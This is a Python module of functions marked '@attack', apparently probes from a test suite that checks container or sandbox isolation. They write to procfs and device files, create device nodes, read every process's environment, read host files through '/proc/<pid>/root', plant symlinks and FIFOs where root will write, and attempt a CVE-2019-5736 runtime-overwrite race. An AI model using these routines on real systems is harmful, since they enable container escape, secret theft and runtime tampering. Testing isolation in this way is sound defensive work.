"""Files of procfs, sysfs, devices and the host."""

import os


@attack
def write(path, text="1"):
    with open(path, "w") as file:
        file.write(text)
    return open(path).read(200)


@attack
def append(path, text="x"):
    with open(path, "a") as file:
        file.write(text)
    return "written"


@attack
def overwrite(path):
    """Write to what is there already: nothing is made."""
    os.write(os.open(path, os.O_WRONLY), b"x")
    return "written"


@attack
def read(path):
    """Return the first bytes; an empty or masked file gives nothing."""
    if os.path.isdir(path):
        found = sorted(os.listdir(path))
    else:
        with open(path, "rb") as file:
            found = file.read(400).strip(b"\0").decode(errors="replace")
    if not found:
        raise OSError(errno.ENODATA, "empty")
    return found


@attack
def make_device(kind, major, minor):
    os.mknod("/root/device", int(kind, 8) | 0o600, os.makedev(int(major), int(minor)))
    return open("/root/device", "rb").read(16).hex()


@attack
def devices():
    return sorted(os.listdir("/dev"))


@attack
def processes():
    """All that is seen of processes: pid → (command, environment)."""
    found = {}
    for name in filter(str.isdigit, os.listdir("/proc")):
        try:
            command = open(f"/proc/{name}/cmdline").read().replace("\0", " ")
            environment = open(f"/proc/{name}/environ").read().replace("\0", " ")
        except OSError:
            command = environment = ""
        found[name] = (command, environment)
    return found


@attack
def descriptors(pid="self"):
    folder = f"/proc/{pid}/fd"
    found = {}
    for name in os.listdir(folder):
        try:
            found[name] = os.readlink(f"{folder}/{name}")
        except OSError:
            continue
    return found


@attack
def environment():
    return dict(os.environ)


@attack
def status(field):
    lines = open("/proc/self/status").read().splitlines()
    return next(line.split(":", 1)[1].strip() for line in lines if line.startswith(field + ":"))


@attack
def mounts():
    return open("/proc/self/mountinfo").read()


@attack
def search(*words):
    """Every file below / whose name or beginning holds a word, procfs left out."""
    found = []
    for folder, folders, names in os.walk("/"):
        if folder == "/":
            folders[:] = [name for name in folders if name not in ("proc", "usr", "sys")]
        for name in names:
            path = os.path.join(folder, name)
            try:
                if os.path.islink(path) or not os.path.isfile(path):
                    text = b""
                else:
                    with open(path, "rb") as file:
                        text = file.read(65536)
            except OSError:
                continue
            if any(word in name or word.encode() in text for word in words):
                found.append(path)
    return found


@attack
def links_through_root(wanted):
    """The host's file by the root, cwd or fd of every process that is seen."""
    for name in filter(str.isdigit, os.listdir("/proc")):
        for way in ("root", "cwd"):
            try:
                return open(f"/proc/{name}/{way}{wanted}").read()
            except OSError:
                continue
    raise OSError(errno.ENOENT, "nothing")


@attack
def overwrite_runtime(seconds="4"):
    """CVE-2019-5736: write to the program that brings processes into the node.

    Opens the executable of every process that appears, then tries to write through it; keeps
    what it could read of a newcomer that is not of the node.
    """
    import time

    won, seen = [], set()
    until = time.monotonic() + float(seconds)
    own = {name for name in os.listdir("/proc") if name.isdigit()}
    while time.monotonic() < until:
        for name in filter(str.isdigit, os.listdir("/proc")):
            if name in own:
                continue
            seen.add(name)
            won += _grasp(name)
    return {"seen": len(seen), "won": sorted(set(won))}


def _grasp(name):
    won = []
    try:
        target = os.readlink(f"/proc/{name}/exe")
        held = os.open(f"/proc/{name}/exe", os.O_RDONLY)
    except OSError:
        return won
    try:
        os.close(os.open(f"/proc/self/fd/{held}", os.O_WRONLY))
        won.append(f"writable {target}")
    except OSError:
        pass
    finally:
        os.close(held)
    try:
        if b"TOPOWEB" in open(f"/proc/{name}/environ", "rb").read():
            won.append("environment")
    except OSError:
        pass
    return won


@attack
def replace_by_link(path, target):
    """Put a symbolic link where root is going to write."""
    if os.path.isdir(path) and not os.path.islink(path):
        os.rename(path, path + ".old")
    elif os.path.lexists(path):
        os.unlink(path)
    os.symlink(target, path)
    return os.readlink(path)


@attack
def replace_by_fifo(path):
    """Put a FIFO where root is going to write: whoever opens it waits for ever."""
    if os.path.lexists(path):
        os.unlink(path)
    os.mkfifo(path)
    return "made"


@attack
def shebang_of_the_runtime():
    """A program whose interpreter is the runtime itself."""
    with open("/root/again", "w") as file:
        file.write("#!/proc/self/exe\n")
    os.chmod("/root/again", 0o755)
    return "made"
